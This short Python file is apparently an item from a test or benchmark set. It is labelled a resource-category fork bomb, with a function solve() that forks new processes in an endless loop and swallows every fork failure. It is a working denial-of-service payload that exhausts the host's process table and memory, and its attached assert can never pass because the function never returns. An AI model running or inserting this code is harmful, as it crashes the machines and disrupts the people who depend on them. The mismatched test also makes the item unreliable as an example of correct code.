"""Fork bomb: every process forks forever, ignoring failures."""
# category: resource
# test: assert solve(1) == 2
import os


def solve(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
